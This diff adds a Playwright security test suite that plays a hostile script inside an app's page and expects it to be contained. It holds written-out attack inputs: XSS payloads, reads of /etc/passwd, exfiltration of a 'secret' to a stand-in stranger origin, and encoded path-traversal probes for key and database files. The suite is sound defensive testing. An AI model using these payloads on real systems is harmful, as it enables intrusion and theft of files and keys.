@@ -1,0 +1,229 @@
+/** What a hostile script could do in the page if one ever ran there. */
+import { expect } from '@playwright/test';
+import { expectNoKey, recordFrames } from './fixtures/key-search.ts';
+import { connectRpc } from './fixtures/rpc-client.ts';
+import { test } from './fixtures/stranger.ts';
+
+test('a script in the page reaches no file, no other origin, and brings no further script', async ({
+  app,
+  stranger,
+}) => {
+  const before = app.url();
+  const reached = await app.evaluate(async (elsewhere) => {
+    const settled = async (name: string, attempt: () => unknown) => {
+      try {
+        await attempt();
+        return [name];
+      } catch {
+        return [];
+      }
+    };
+    /** Whether an element has loaded. */
+    const loads = (tag: string, attributes: Record<string, string>) =>
+      new Promise<void>((resolve, reject) => {
+        const element = document.createElement(tag);
+        element.onload = () => resolve();
+        element.onerror = () => reject(new Error(tag));
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+        document.body.append(element);
+      });
+    const opens = (target: EventTarget) =>
+      new Promise<void>((resolve, reject) => {
+        target.addEventListener('open', () => resolve());
+        target.addEventListener('error', () => reject(new Error('closed')));
+      });
+    /** Until its script runs or is refused: one at a time. */
+    const inserted = async (html: string) => {
+      const run = new Promise((resolve) =>
+        Object.defineProperty(window, 'owned', { configurable: true, set: resolve }),
+      );
+      const refused = new Promise((_, reject) => {
+        document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
+          if (blockedURI === 'inline') reject(new Error(html));
+        });
+      });
+      const place = document.createElement('div');
+      place.innerHTML = html;
+      document.body.append(place);
+      for (const link of place.querySelectorAll('a')) link.click();
+      for (const script of place.querySelectorAll('script')) {
+        const copy = document.createElement('script');
+        copy.textContent = script.textContent;
+        document.body.append(copy);
+      }
+      await Promise.race([run, refused]).finally(() => place.remove());
+    };
+    const inWorker = (code: string) =>
+      new Promise<void>((resolve, reject) => {
+        const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
+        const worker = new Worker(url);
+        worker.onmessage = ({ data }) => (data === 'read' ? resolve() : reject(new Error(data)));
+        worker.onerror = () => reject(new Error('worker'));
+      });
+    const reached = (
+      await Promise.all([
+        settled('a file', () => fetch('file:///etc/passwd')),
+        settled('another origin', () => fetch(`${elsewhere}/fetch`)),
+        settled('another origin, unread', () => fetch(`${elsewhere}/blind`, { mode: 'no-cors' })),
+        settled('a socket', () =>
+          opens(new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`)),
+        ),
+        settled('events', () => opens(new EventSource(`${elsewhere}/events`))),
+        settled('a worker', () =>
+          inWorker(
+            `fetch('${elsewhere}/worker').then(() => postMessage('read'), () => postMessage('kept out'))`,
+          ),
+        ),
+        settled('a file in a worker', () =>
+          inWorker(
+            `fetch('file:///etc/passwd').then(() => postMessage('read'), () => postMessage('kept out'))`,
+          ),
+        ),
+        settled('an image', () => loads('img', { src: `${elsewhere}/image.png` })),
+        settled('a script', () => loads('script', { src: `${elsewhere}/script.js` })),
+        settled('a style', () => loads('link', { rel: 'stylesheet', href: `${elsewhere}/a.css` })),
+        settled('a module', () => import(/* @vite-ignore */ `${elsewhere}/module.js`)),
+        settled('a module of data', () => import(/* @vite-ignore */ `data:text/javascript,${1}`)),
+        settled('a function of text', async () => {
+          // Playwright allows it in the task that it starts itself.
+          await new Promise((resolve) => setTimeout(resolve));
+          return new Function('return 1')();
+        }),
+      ])
+    ).flat();
+    for (const [name, html] of [
+      ['an inline script', '<script>window.owned = 1</script>'],
+      ['a handler', '<img src="/nothing" onerror="window.owned = 1">'],
+      ['an address with a script', '<a href="javascript:void(window.owned = 1)">x</a>'],
+    ] as const) {
+      reached.push(...(await settled(name, () => inserted(html))));
+    }
+    return reached;
+  }, stranger.origin);
+  expect(reached).toEqual([]);
+
+  await app.evaluate((elsewhere) => {
+    navigator.sendBeacon(`${elsewhere}/beacon`, 'secret');
+    for (const tag of ['iframe', 'embed', 'object', 'video', 'audio']) {
+      const element = document.createElement(tag);
+      element.setAttribute(tag === 'object' ? 'data' : 'src', `${elsewhere}/${tag}`);
+      document.body.append(element);
+    }
+    const form = document.createElement('form');
+    Object.assign(form, { action: `${elsewhere}/form`, method: 'post' });
+    document.body.append(form);
+    form.submit();
+    const base = document.createElement('base');
+    base.href = elsewhere;
+    document.head.append(base);
+  }, stranger.origin);
+  // A request of the page after all of these: they would have come by now.
+  expect(await app.evaluate(() => fetch('/').then(({ status }) => status))).toBe(200);
+  await app.waitForLoadState('networkidle');
+  expect(app.url()).toBe(before);
+  expect(stranger.visits).toEqual([]);
+});
+
+test.describe('in the browser host', () => {
+  test.skip(({ hostKind }) => hostKind !== 'browser', 'It is about the browser host.');
+
+  test('a script in the page gets no permission that the page does not use', async ({ app }) => {
+    // What a user would have to be asked for: with everything granted, only the page's own policy refuses.
+    await app.context().grantPermissions(['geolocation', 'camera', 'clipboard-read']);
+    const outcomes = await app.evaluate(async () => {
+      const outcome = async (name: string, attempt: () => unknown) =>
+        Promise.resolve()
+          .then(attempt)
+          .then(
+            () => [name, 'allowed'],
+            (cause: unknown) => [name, cause instanceof DOMException ? cause.name : String(cause)],
+          );
+      const device = (name: string, method: string) => {
+        const part: unknown = Reflect.get(navigator, name);
+        if (typeof part !== 'object' || part === null) throw new Error('not there');
+        return Reflect.apply(Reflect.get(part, method), part, [{ filters: [] }]);
+      };
+      const place = () =>
+        new Promise((resolve, reject) =>
+          navigator.geolocation.getCurrentPosition(resolve, ({ message }) => reject(message), {
+            timeout: 1000,
+          }),
+        );
+      /** For what no device here would tell. */
+      const policy: { allowsFeature(name: string): boolean } = Reflect.get(
+        document,
+        'featurePolicy',
+      );
+      return Promise.all([
+        ['camera', policy.allowsFeature('camera')],
+        ['microphone', policy.allowsFeature('microphone')],
+        outcome('place', place),
+        outcome('screen', () => navigator.mediaDevices.getDisplayMedia()),
+        outcome('clipboard', () => navigator.clipboard.readText()),
+        outcome('USB', () => device('usb', 'getDevices')),
+        outcome('HID', () => device('hid', 'getDevices')),
+        outcome('serial', () => device('serial', 'getPorts')),
+        outcome('MIDI', () => navigator.requestMIDIAccess()),
+      ]);
+    });
+    // Of a device that is not there, or of a user who did not click, the browser would say something else.
+    expect(Object.fromEntries(outcomes)).toEqual({
+      camera: false,
+      microphone: true,
+      place: 'Geolocation has been disabled in this document by permissions policy.',
+      screen: 'NotAllowedError',
+      clipboard: 'NotAllowedError',
+      USB: 'SecurityError',
+      HID: 'SecurityError',
+      serial: 'SecurityError',
+      MIDI: 'SecurityError',
+    });
+  });
+
+  test('a script in the page is told no key, reads no file by a guess or a path, and forges no call', async ({
+    app,
+    gateway,
+  }) => {
+    const frames = recordFrames(app);
+    await app.reload();
+    await expect(app.getByRole('combobox', { name: 'Connection' })).toBeEnabled();
+    const { api, close } = await connectRpc(app);
+    const answers: unknown[] = [
+      await api.connections.list(),
+      await api.system.info(),
+      await api.settings.get(),
+      await api.connections.test({ id: 'environment' }),
+    ];
+    // The key stays with its address: a script cannot have it sent to its own.
+    const update = { id: 'environment', name: 'Environment', baseUrl: 'http://127.0.0.1:9' };
+    await expect(api.connections.update(update)).rejects.toMatchObject({ code: 'APP_ERROR' });
+    for (const url of ['file:///etc/passwd', 'app://gatehouse/', `${new URL(app.url()).origin}/`]) {
+      await expect(api.media.fetchRemote({ url })).rejects.toMatchObject({ code: 'APP_ERROR' });
+    }
+    close();
+    expectNoKey(gateway.key, 'what main answers', JSON.stringify(answers));
+    expectNoKey(gateway.key, 'what main sends', frames.received.join('\n'));
+
+    const statuses = await app.evaluate(async () => {
+      const guessed = Array.from({ length: 20 }, () => {
+        const bytes = crypto.getRandomValues(new Uint8Array(16));
+        return btoa(String.fromCharCode(...bytes))
+          .replaceAll('+', '-')
+          .replaceAll('/', '_')
+          .slice(0, 22);
+      });
+      const paths = [
+        ...guessed.map((id) => `/media/${id}`),
+        '/media/..%2fgatehouse.sqlite',
+        '/media/%2e%2e%2f%2e%2e%2fetc%2fpasswd',
+        '/media/..%5c..%5ckeys.json',
+        '/..%2fkeys.json',
+        '/keys.json',
+        '/media/incoming',
+        `/media/${guessed[0]}/../../keys.json`,
+      ];
+      return Promise.all(paths.map(async (path) => (await fetch(path)).status));
+    });
+    expect(new Set(statuses)).toEqual(new Set([404]));
+  });
+});
